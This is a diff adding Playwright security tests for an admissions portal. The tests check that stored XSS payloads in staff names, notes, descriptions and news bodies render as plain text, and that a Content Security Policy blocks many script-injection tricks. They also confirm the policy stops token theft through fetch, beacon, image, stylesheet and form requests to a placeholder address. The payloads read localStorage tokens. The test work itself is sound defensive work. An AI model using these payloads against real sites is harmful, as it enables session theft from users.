@@ -1,0 +1,157 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { type Browser, expect, type Page, test } from '@playwright/test'
+import { makeOffice, staffCalls } from './office.ts'
+import { SUPER_ADMIN } from './portal-environment.ts'
+import { expectScreen, visit } from './screen.ts'
+import { enter, signInByCall } from './sign-in.ts'
+import { newStaffMember, type StaffMember } from './staff.ts'
+import { textsIn } from './texts.ts'
+
+/** What a script that runs leaves behind: the token that it has reached. */
+const planted = (page: Page) => page.evaluate<unknown>('globalThis.planted')
+const WORDS = `Planted<img src=x onerror="globalThis.planted=localStorage.token"><script>globalThis.planted=localStorage.token</script>`
+
+/** A place of the list of universities that no other journey takes. */
+const PLACE = 31
+
+test('a script in every free text is words to whoever reads it', async ({ browser, baseURL }) => {
+  const { universityId, head, applicationIds, applicants } = await makeOffice(baseURL, PLACE, 10)
+  const [id = ''] = applicationIds
+  const root = await staffCalls(baseURL, SUPER_ADMIN)
+  const inspector: StaffMember = { ...newStaffMember('Planted'), fullName: `${WORDS}` }
+  const hired = await root.post('/staff', { ...inspector, roles: [{ name: 'MANAGER' }], university: universityId })
+  const office = await staffCalls(baseURL, head)
+  await office.post('/staff/request/inspector', { inspectorId: hired.data.id, requestId: id, status: 'IN_PROCESS' })
+  await office.post(`/staff/request/${id}/notes`, { text: WORDS })
+  const manager = await staffCalls(baseURL, inspector)
+  await manager.post(`/staff/request/inspector/update/status/${id}`, { status: 'FAILED', comment: WORDS })
+  const said = { descriptionKz: WORDS, descriptionRu: WORDS, descriptionEn: WORDS }
+  const { version } = (await office.get('/university/profile')).data
+  await office.post('/university/edit', { tab: 'description', version, ...said })
+  const titles = { newsTitleKz: WORDS, newsTitleRu: WORDS, newsTitleEn: WORDS }
+  const today = new Date(Date.now() + 5 * 3_600_000).toISOString().slice(0, 10)
+  const body = `${WORDS}\n\n[link](javascript:globalThis.planted=1) ![x](x" onerror="globalThis.planted=1)`
+  const news = await office.post('/university/news', {
+    newsDate: today,
+    ...titles,
+    bodyKz: body,
+    bodyRu: body,
+    bodyEn: body,
+  })
+
+  const staff = await enter(browser, 'en', 'STAFF', head)
+  await expectScreen(staff, staff.t('applications.staffList.title'))
+  await staff.page.goto(`/admission/applications/${id}`)
+  await expect(staff.page.getByText('Planted<img').first()).toBeVisible()
+  expect(await planted(staff.page)).toBeUndefined()
+  await office.post(`/staff/request/admin/update/status/${id}`, { status: 'PASSED', comment: '' })
+
+  const guest = await visit(browser, 'en')
+  for (const path of [
+    `/admission/universities/${universityId}`,
+    `/admission/universities/${universityId}/news/${news.data.id}`,
+  ]) {
+    await guest.page.goto(path)
+    await expect(guest.page.getByText('Planted<img').first()).toBeVisible()
+    await guest.page.waitForLoadState('networkidle')
+    expect(await planted(guest.page)).toBeUndefined()
+    expect(await guest.page.locator('a[href^="javascript"], img[src="x"]').count()).toBe(0)
+  }
+  expect(applicants.length).toBeGreaterThan(0)
+})
+
+/** What somebody could try who has got a text of theirs into a page as code of ours would put it there. */
+const ATTEMPTS: Readonly<Record<string, string>> = {
+  'markup with a handler': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.planted=localStorage.token">')`,
+  'markup through a property': `const box = document.createElement('div'); document.body.append(box); box.innerHTML = '<img src="data:," onerror="globalThis.planted=localStorage.token">'`,
+  'a script’s text': `const script = document.createElement('script'); script.text = 'globalThis.planted=localStorage.token'; document.head.append(script)`,
+  'a script’s words': `const script = document.createElement('script'); script.append('globalThis.planted=localStorage.token'); document.head.append(script)`,
+  'a script’s address': `const script = document.createElement('script'); script.src = 'data:text/javascript,globalThis.planted=localStorage.token'; document.head.append(script)`,
+  'a handler’s text': `const image = document.createElement('img'); image.setAttribute('onerror', 'globalThis.planted=localStorage.token'); image.src = 'data:,'; document.body.append(image)`,
+  'a text for later': `setTimeout('globalThis.planted=localStorage.token')`,
+  'a text as code': `eval('globalThis.planted=localStorage.token')`,
+  'a text as a function': `new Function('globalThis.planted=localStorage.token')()`,
+  'a frame with a text': `const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.planted=parent.localStorage.token</script>'; document.body.append(frame)`,
+  'a frame of a file': `const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob(['<script>parent.planted=parent.localStorage.token</script>'], { type: 'text/html' })); document.body.append(frame)`,
+  'a worker of a file': `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => { globalThis.planted = localStorage.token }`,
+  'a link with a script': `const link = document.createElement('a'); link.href = 'javascript:globalThis.planted=localStorage.token;void 0'; document.body.append(link); link.click()`,
+}
+
+/** Somebody signed in, before a page that reports nothing as a fault of its own. */
+async function signedIn(browser: Browser, person: StaffMember, bypassCSP: boolean): Promise<Page> {
+  const page = await (await browser.newContext({ bypassCSP })).newPage()
+  await signInByCall({ page, t: textsIn('en'), language: 'en' }, 'STAFF', person)
+  await page.goto('/admission/profile')
+  await expect(page.locator('h1')).toBeVisible()
+  return page
+}
+
+/** Tries it as the page's own code would; an evaluation itself may do more than a page. */
+async function attempt(page: Page, code: string): Promise<void> {
+  await page.evaluate<undefined>(`void setTimeout(() => { try { ${code} } catch {} })`)
+  await page.waitForTimeout(150)
+}
+
+test('a script that has got into a page neither runs nor reaches the token; without the policy it would', async ({
+  browser,
+  baseURL,
+}) => {
+  const root = await staffCalls(baseURL, SUPER_ADMIN)
+  const person = newStaffMember('Attacked')
+  await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
+  for (const [what, code] of Object.entries(ATTEMPTS)) {
+    const kept = await signedIn(browser, person, false)
+    await attempt(kept, code)
+    expect(await planted(kept), what).toBeUndefined()
+    await kept.context().close()
+  }
+  const open = await signedIn(browser, person, true)
+  const ran: string[] = []
+  for (const [what, code] of Object.entries(ATTEMPTS)) {
+    await attempt(open, code)
+    await open.waitForFunction('globalThis.planted !== undefined', null, { timeout: 5_000 }).catch(() => undefined)
+    if ((await planted(open)) !== undefined) ran.push(what)
+    await open.evaluate('delete globalThis.planted')
+  }
+  expect(ran).toEqual(Object.keys(ATTEMPTS))
+  await open.context().close()
+})
+
+/** What carries a token away, to an address that is filled in. */
+const WAYS_OUT: Readonly<Record<string, string>> = {
+  fetch: `fetch('ELSEWHERE?' + localStorage.token)`,
+  beacon: `navigator.sendBeacon('ELSEWHERE', localStorage.token)`,
+  picture: `new Image().src = 'ELSEWHERE?' + localStorage.token`,
+  stylesheet: `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = 'ELSEWHERE?' + localStorage.token; document.head.append(link)`,
+  form: `const form = document.createElement('form'); form.action = 'ELSEWHERE'; form.method = 'post'; document.body.append(form); form.submit()`,
+}
+
+test('nothing of the token leaves for elsewhere; without the policy it would', async ({ browser, baseURL }) => {
+  const root = await staffCalls(baseURL, SUPER_ADMIN)
+  const person = newStaffMember('Attacked')
+  await root.post('/staff', { ...person, roles: [{ name: 'MANAGER' }] })
+  let arrived = 0
+  const elsewhere = createServer((_request, response) => {
+    arrived += 1
+    response.end()
+  }).listen(0, '127.0.0.1')
+  await once(elsewhere, 'listening')
+  const address = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`
+  const arrivedBy = async (bypassCSP: boolean): Promise<string[]> => {
+    const ways: string[] = []
+    const page = await signedIn(browser, person, bypassCSP)
+    for (const [way, code] of Object.entries(WAYS_OUT)) {
+      arrived = 0
+      await attempt(page, code.replace('ELSEWHERE', address))
+      for (let waits = 0; bypassCSP && arrived === 0 && waits < 20; waits += 1) await page.waitForTimeout(100)
+      if (arrived > 0) ways.push(way)
+    }
+    await page.context().close()
+    return ways
+  }
+  expect(await arrivedBy(false)).toEqual([])
+  expect(await arrivedBy(true)).toEqual(Object.keys(WAYS_OUT))
+  elsewhere.close()
+})
